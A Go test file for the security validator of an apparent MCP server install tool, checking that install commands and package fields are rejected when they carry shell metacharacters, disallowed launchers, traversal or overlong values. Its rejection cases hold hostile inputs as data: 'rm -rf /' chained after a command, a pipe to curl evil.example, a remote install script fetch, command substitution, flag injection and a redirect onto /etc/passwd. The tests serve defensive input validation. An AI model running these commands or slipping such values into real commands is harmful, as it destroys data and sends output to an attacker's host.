package security

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"mcpforge.dev/cli/internal/core/descriptor"
)

func TestCheckInstallCommand(t *testing.T) {
	tests := []struct {
		name        string
		command     string
		wantClass   ViolationClass
		description string
	}{
		{
			name:        "NpxCommand",
			command:     "npx -y @modelcontextprotocol/server-filesystem /data",
			description: "a normal npx command passes",
		},
		{
			name:        "DockerCommand",
			command:     "docker run -i --rm ghcr.io/acme/server:1.4",
			description: "container commands pass",
		},
		{
			name:        "GitWithRef",
			command:     "git clone https://github.com/acme/server.git#v2.0.0",
			description: "pinned git refs pass",
		},
		{
			name:        "CommandChaining",
			command:     "npx server; rm -rf /",
			wantClass:   ViolationInvalidCharacters,
			description: "semicolons are rejected, never escaped",
		},
		{
			name:        "PipeSmuggling",
			command:     "npx server | curl evil.example",
			wantClass:   ViolationInvalidCharacters,
			description: "pipes are rejected",
		},
		{
			name:        "CommandSubstitution",
			command:     "npx $(whoami)",
			wantClass:   ViolationInvalidCharacters,
			description: "substitution is rejected",
		},
		{
			name:        "Backtick",
			command:     "npx `id`",
			wantClass:   ViolationInvalidCharacters,
			description: "backticks are rejected",
		},
		{
			name:        "Redirect",
			command:     "npx server > /etc/passwd",
			wantClass:   ViolationInvalidCharacters,
			description: "redirects are rejected",
		},
		{
			name:        "NullByte",
			command:     "npx server\x00extra",
			wantClass:   ViolationInvalidCharacters,
			description: "null bytes are rejected",
		},
		{
			name:        "UnknownLauncher",
			command:     "curl https://evil.example/install.sh",
			wantClass:   ViolationDisallowedEcosystem,
			description: "only allow-listed launchers may be argv[0]",
		},
		{
			name:        "BashLauncher",
			command:     "bash -c true",
			wantClass:   ViolationDisallowedEcosystem,
			description: "shells are never launchers",
		},
		{
			name:        "Traversal",
			command:     "npx ../../etc/passwd",
			wantClass:   ViolationPathTraversal,
			description: "traversal sequences are rejected",
		},
		{
			name:        "OverlongCommand",
			command:     "npx " + strings.Repeat("a", MaxCommandLength),
			wantClass:   ViolationLengthExceeded,
			description: "commands over the ceiling are rejected",
		},
		{
			name:        "Empty",
			command:     "   ",
			wantClass:   ViolationInvalidCharacters,
			description: "blank commands are rejected",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := CheckInstallCommand(tt.command)
			if tt.wantClass == "" {
				assert.NoError(t, err, tt.description)
				return
			}
			require.Error(t, err, tt.description)
			var se *SecurityError
			require.ErrorAs(t, err, &se)
			assert.Equal(t, tt.wantClass, se.Class, tt.description)
		})
	}
}

func TestValidateResolved(t *testing.T) {
	valid := descriptor.ResolvedPackage{
		Ecosystem: descriptor.EcosystemNPM,
		Name:      "@acme/server",
		Version:   "1.2.3",
		ExtraArgs: []string{"--port=8080"},
	}
	assert.NoError(t, ValidateResolved(valid))

	tests := []struct {
		name   string
		mutate func(*descriptor.ResolvedPackage)
	}{
		{name: "AbsolutePathName", mutate: func(r *descriptor.ResolvedPackage) { r.Name = "/usr/bin/evil" }},
		{name: "FlagInjectionName", mutate: func(r *descriptor.ResolvedPackage) { r.Name = "--upload-pack=evil" }},
		{name: "TraversalName", mutate: func(r *descriptor.ResolvedPackage) { r.Name = "../../../tmp/x" }},
		{name: "MetacharVersion", mutate: func(r *descriptor.ResolvedPackage) { r.Version = "1.0;id" }},
		{name: "OverlongName", mutate: func(r *descriptor.ResolvedPackage) { r.Name = strings.Repeat("a", MaxNameLength+1) }},
		{name: "MetacharExtraArg", mutate: func(r *descriptor.ResolvedPackage) { r.ExtraArgs = []string{"$(id)"} }},
		{name: "OverlongExtraArg", mutate: func(r *descriptor.ResolvedPackage) { r.ExtraArgs = []string{strings.Repeat("a", MaxArgLength+1)} }},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := valid
			res.ExtraArgs = append([]string(nil), valid.ExtraArgs...)
			tt.mutate(&res)
			err := ValidateResolved(res)
			require.Error(t, err)
			assert.True(t, IsSecurityError(err))
		})
	}
}

func TestValidateDescriptor_RejectsWholeDescriptor(t *testing.T) {
	d := descriptor.PackageDescriptor{
		Slug: "acme-weather",
		InstallMethods: []descriptor.InstallMethod{
			{Type: "npm", Command: "npx -y @acme/weather"},
			{Type: "git", Command: "git clone https://x.example/r.git && rm -rf /"},
		},
	}
	err := ValidateDescriptor(d)
	require.Error(t, err, "one malicious method poisons the descriptor")
	assert.True(t, IsSecurityError(err))

	d.InstallMethods = d.InstallMethods[:1]
	assert.NoError(t, ValidateDescriptor(d))

	d.RequiredEnvVars = []string{"GITHUB_TOKEN; id"}
	assert.Error(t, ValidateDescriptor(d))
}

func TestCheckField_NeverPassesMetachars(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		clean := rapid.StringMatching(`[a-zA-Z0-9@/._-]{1,64}`).Draw(t, "clean")
		meta := rapid.SampledFrom([]rune(";|&$`><")).Draw(t, "meta")
		pos := rapid.IntRange(0, len(clean)).Draw(t, "pos")

		tainted := clean[:pos] + string(meta) + clean[pos:]
		err := CheckField("name", tainted, MaxNameLength)
		require.Error(t, err, "metacharacter %q must be rejected", meta)

		var se *SecurityError
		require.ErrorAs(t, err, &se)
		assert.Equal(t, ViolationInvalidCharacters, se.Class)
	})
}

func TestCheckField_AcceptsRealPackageNames(t *testing.T) {
	names := []string{
		"@modelcontextprotocol/server-filesystem",
		"mcp-server-git",
		"example.com/cmd/mcp-srv",
		"ghcr.io/acme/server:1.4",
		"https://github.com/acme/server.git#v2.0.0",
	}
	for _, name := range names {
		assert.NoError(t, CheckField("name", name, MaxNameLength), name)
	}
}

func TestSecurityError_Message(t *testing.T) {
	err := &SecurityError{Class: ViolationDisallowedEcosystem, Field: "install_command", Value: "curl", Hint: "launcher is not allow-listed"}
	assert.Contains(t, err.Error(), "disallowed_ecosystem")
	assert.Contains(t, err.Error(), "curl")
	assert.False(t, IsSecurityError(nil))
}
